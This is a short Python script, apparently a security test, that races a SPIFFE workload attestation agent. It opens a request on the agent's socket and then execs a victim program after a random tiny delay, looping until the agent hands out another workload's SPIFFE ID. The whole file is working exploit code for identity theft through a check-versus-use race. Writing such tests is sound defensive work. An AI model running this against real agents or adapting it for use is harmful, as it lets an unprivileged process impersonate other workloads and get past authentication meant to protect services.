"""Tries to have another program's digest remembered for its own executable: it asks, and becomes that program while the agent looks.

usage: digest_swap.py SOCKET VICTIM SECONDS

Runs as nobody from a copy of Python that it owns. Prints the SPIFFE ID that it got, or "nothing" when the time is over.
"""

import os
import random
import re
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../support"))
from workload_call import ask, call, connect, opening  # noqa: E402

path, victim, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
own = os.readlink("/proc/self/exe")


def attempt(delay: float) -> None:
    """One process that asks, and runs the victim's program a moment later."""
    # Another version of the same executable, of which the agent knows nothing yet.
    os.utime(own)
    child = os.fork()
    if child == 0:
        connection = connect(path)
        os.set_inheritable(connection.fileno(), True)
        connection.sendall(opening() + call(1))
        until = time.perf_counter() + delay
        while time.perf_counter() < until:
            pass
        os.execv(victim, [victim, "0.02"])
    os.waitpid(child, 0)


end = time.monotonic() + seconds
while time.monotonic() < end:
    attempt(random.uniform(0, 0.004))
    identities = re.findall(r"spiffe://[a-z0-9./_-]+", ask(connect(path), 5).decode("latin1"))
    if identities:
        print(identities[0])
        break
else:
    print("nothing")
